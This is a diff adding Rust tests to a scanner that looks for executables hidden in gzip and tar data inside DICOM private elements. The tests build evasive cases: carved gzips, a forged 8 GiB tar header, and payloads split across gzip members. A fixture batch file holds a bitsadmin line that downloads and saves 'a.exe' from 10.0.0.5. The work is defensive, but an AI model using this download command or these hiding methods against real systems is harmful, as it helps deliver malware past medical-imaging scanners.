@@ -2128,3 +2128,246 @@ fn workbooks_encrypted_with_excels_default_password_are_decrypted_and_screened()
         );
     }
 }
+
+/// Review s8-r10: the search skipped every gzip or tar start inside the bytes an earlier
+/// archive walk "went through", though the walk judged a member by its first bytes only.
+/// A gzip of a program after text in a tar member (GNU tar's own), or after one 512-byte
+/// tar header claiming an 8 GiB member (the walk took the rest of the element for that
+/// member), or inside a gzip member stored verbatim (deflate level 0, python3's zlib), was
+/// silence; `dd`/`tail -c +N | gunzip` delivers the program. Only the starts the walk
+/// read from themselves (its later gzip members, its tar headers) are skipped: a file of
+/// many members still gives one warning (the test above).
+#[test]
+fn a_gzip_inside_the_bytes_of_an_earlier_archive_walk_is_still_opened() {
+    let dir = TempDir::new();
+    let text = b"Study report: no acute findings.\n".repeat(20);
+    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
+    let gz_pe = Command::new("gzip")
+        .args(["-c", "-n", "launcher.exe"])
+        .current_dir(&dir.0)
+        .output()
+        .expect("gzip")
+        .stdout;
+    let mut notes = text.clone();
+    notes.extend(&gz_pe);
+    notes.extend(&text);
+    std::fs::write(dir.path("notes.txt"), &notes).expect("write");
+    run(
+        "tar",
+        &["--format=ustar", "-cf", "notes.tar", "notes.txt"],
+        &dir.0,
+    );
+    let tar = std::fs::read(dir.path("notes.tar")).expect("read");
+    // The real gzip finds the program from the start of its gzip: the bytes a dropper
+    // carves out.
+    let at = tar
+        .windows(gz_pe.len())
+        .position(|w| w == gz_pe.as_slice())
+        .expect("the gzip is in the tar member");
+    std::fs::write(dir.path("carved.gz"), &tar[at..]).expect("write");
+    let carved = Command::new("sh")
+        .args(["-c", "gzip -dc carved.gz 2>/dev/null"])
+        .current_dir(&dir.0)
+        .output()
+        .expect("gzip -d");
+    assert!(carved.stdout.starts_with(b"MZ"));
+    // The same tar header, its size field claiming 8 GiB (checksum recomputed).
+    let mut huge = tar[..512].to_vec();
+    huge[124..136].copy_from_slice(b"77777777777\0");
+    huge[148..156].copy_from_slice(b"        ");
+    let sum: u32 = huge.iter().map(|&b| u32::from(b)).sum();
+    huge[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
+    huge.extend(&notes);
+    // A gzip member stored verbatim (level 0) holding the text and the gzip of the program.
+    std::fs::write(dir.path("notes.bin"), &notes).expect("write");
+    let stored = Command::new("python3")
+        .args([
+            "-c",
+            "import gzip,sys; sys.stdout.buffer.write(gzip.compress(open('notes.bin','rb').read(), 0, mtime=0))",
+        ])
+        .current_dir(&dir.0)
+        .output()
+        .expect("python3")
+        .stdout;
+    assert!(stored.windows(gz_pe.len()).any(|w| w == gz_pe.as_slice()));
+    for (case, value) in [
+        ("tar member", tar),
+        ("huge tar size", huge),
+        ("stored gzip", stored),
+    ] {
+        let inspection = inspect(&in_private_element(&value));
+        assert!(
+            has_alert(&inspection, FindingKind::EmbeddedExecutable),
+            "{case}: {:#?}",
+            inspection.observations
+        );
+    }
+}
+
+/// Review s8-r10: once a search stopped opening a gzip file at each later member, a member
+/// was judged by its own bytes only, so a program or a tar cut over two members after a
+/// text member was silence: `M` alone and `Z...` alone name nothing, and the rest of a tar
+/// cut in a member's data is in no member's own bytes; `tail -c +N file.gz | gunzip`
+/// from the second member delivers the program, and `| tar x` the batch file. The
+/// members are the real gzip's, the tar GNU tar's.
+#[test]
+fn a_program_or_tar_cut_over_gzip_members_is_found_from_the_first_of_them() {
+    let dir = TempDir::new();
+    std::fs::write(dir.path("readme.txt"), b"r".repeat(3000)).expect("write");
+    std::fs::write(
+        dir.path("run.bat"),
+        b"@echo off\r\nbitsadmin /transfer x http://10.0.0.5/a.exe %TEMP%\\a.exe\r\n",
+    )
+    .expect("write");
+    run(
+        "tar",
+        &["--format=ustar", "-cf", "t.tar", "readme.txt", "run.bat"],
+        &dir.0,
+    );
+    let tar = std::fs::read(dir.path("t.tar")).expect("read");
+    let pe = kit::real_pe();
+    let gzip = |data: &[u8]| {
+        std::fs::write(dir.path("part"), data).expect("write");
+        let out = Command::new("gzip")
+            .args(["-c", "-n", "part"])
+            .current_dir(&dir.0)
+            .output()
+            .expect("gzip");
+        assert!(out.status.success());
+        out.stdout
+    };
+    let text = gzip(&b"Study report: no acute findings.\n".repeat(20));
+    for (case, parts) in [
+        ("program cut after its first byte", vec![&pe[..1], &pe[1..]]),
+        (
+            "tar cut in a member's data",
+            vec![&tar[..1000], &tar[1000..]],
+        ),
+        ("tar cut in a header", vec![&tar[..100], &tar[100..]]),
+    ] {
+        let mut file = text.clone();
+        for part in parts {
+            file.extend(gzip(part));
+        }
+        // What the members after the text deliver, read by the real gzip and tar.
+        std::fs::write(dir.path("cut.gz"), &file[text.len()..]).expect("write");
+        let delivered = Command::new("sh")
+            .args([
+                "-c",
+                "gzip -dc cut.gz | (tar -tf - 2>/dev/null || true); gzip -dc cut.gz | head -c 2",
+            ])
+            .current_dir(&dir.0)
+            .output()
+            .expect("sh");
+        let delivered = String::from_utf8_lossy(&delivered.stdout);
+        assert!(
+            delivered.contains("run.bat") || delivered.ends_with("MZ"),
+            "{case}: {delivered}"
+        );
+        let inspection = inspect(&in_private_element(&file));
+        assert!(
+            has_alert(&inspection, FindingKind::EmbeddedExecutable),
+            "{case}: {:#?}",
+            inspection.observations
+        );
+    }
+    // Members of pages are judged each from its start, with no limit reached.
+    let mut pages = Vec::new();
+    for n in 0..200 {
+        let mut page = format!("<html><body><p>report {n}</p></body></html>\n").into_bytes();
+        page.extend(b"x".repeat(20_000));
+        pages.extend(gzip(&page));
+    }
+    let inspection = inspect(&in_private_element(&pages));
+    assert!(
+        inspection
+            .observations
+            .iter()
+            .all(|o| o.severity != Severity::Alert && o.kind != FindingKind::NotInspected),
+        "{:#?}",
+        inspection.observations
+    );
+}
+
+/// Review s8-r10: a search named one archive warning in all, so after a tar past
+/// MAX_ARCHIVE_MEMBERS a separate .tgz holding what cannot be opened (here an xz stream,
+/// the real xz's) said nothing of it: the file named only the member limit. Each reason
+/// is now a warning once, up to MAX_ARCHIVE_WARNINGS_PER_SEARCH distinct ones; the same
+/// limit met again is still one (the many-member test above).
+#[test]
+fn distinct_archive_warnings_in_one_search_are_each_named_to_their_limit() {
+    use pacsguard_dicom::{MAX_ARCHIVE_MEMBERS, MAX_ARCHIVE_WARNINGS_PER_SEARCH};
+    let dir = TempDir::new();
+    std::fs::write(dir.path("log.txt"), b"scanner log\n".repeat(100)).expect("write");
+    run("xz", &["-k", "log.txt"], &dir.0);
+    let mut names = Vec::new();
+    for n in 0..MAX_ARCHIVE_MEMBERS + 2 {
+        let name = format!("f{n:05}");
+        std::fs::write(dir.path(&name), b"").expect("write");
+        names.push(name);
+    }
+    std::fs::write(dir.path("list"), names.join("\n")).expect("write");
+    run(
+        "tar",
+        &["--format=ustar", "-cf", "many.tar", "-T", "list"],
+        &dir.0,
+    );
+    let many = std::fs::read(dir.path("many.tar")).expect("read");
+    // A .tgz holding `n.xz`, a reason of its own per name, after a line of text (two
+    // gzip files end to end are one file of two members to gzip).
+    let tgz = |n: usize| {
+        let name = format!("log{n}.xz");
+        std::fs::copy(dir.path("log.txt.xz"), dir.path(&name)).expect("copy");
+        let out = Command::new("sh")
+            .args([
+                "-c",
+                &format!("tar --format=ustar -cf - {name} | gzip -c -n"),
+            ])
+            .current_dir(&dir.0)
+            .output()
+            .expect("tar | gzip");
+        assert!(out.status.success());
+        [&b"\nnext file\n"[..], &out.stdout].concat()
+    };
+    let warnings = |value: &[u8]| {
+        let inspection = inspect(&in_private_element(value));
+        assert!(
+            !inspection
+                .observations
+                .iter()
+                .any(|o| o.severity == Severity::Alert),
+            "{:#?}",
+            inspection.observations
+        );
+        inspection
+            .observations
+            .iter()
+            .filter(|o| o.kind == FindingKind::NotInspected)
+            .map(|o| o.detail.clone())
+            .collect::<Vec<_>>()
+    };
+    let mut value = many.clone();
+    value.extend(tgz(0));
+    let found = warnings(&value);
+    assert_eq!(found.len(), 2, "{found:#?}");
+    assert!(found[0].contains("MAX_ARCHIVE_MEMBERS"), "{found:#?}");
+    assert!(found[1].contains("log0.xz"), "{found:#?}");
+    // At the limit every reason is named; one more reason is not.
+    for (reasons, named) in [
+        (
+            MAX_ARCHIVE_WARNINGS_PER_SEARCH,
+            MAX_ARCHIVE_WARNINGS_PER_SEARCH,
+        ),
+        (
+            MAX_ARCHIVE_WARNINGS_PER_SEARCH + 1,
+            MAX_ARCHIVE_WARNINGS_PER_SEARCH,
+        ),
+    ] {
+        let mut value = many.clone();
+        for n in 1..reasons {
+            value.extend(tgz(n));
+        }
+        let found = warnings(&value);
+        assert_eq!(found.len(), named, "{reasons}: {found:#?}");
+    }
+}
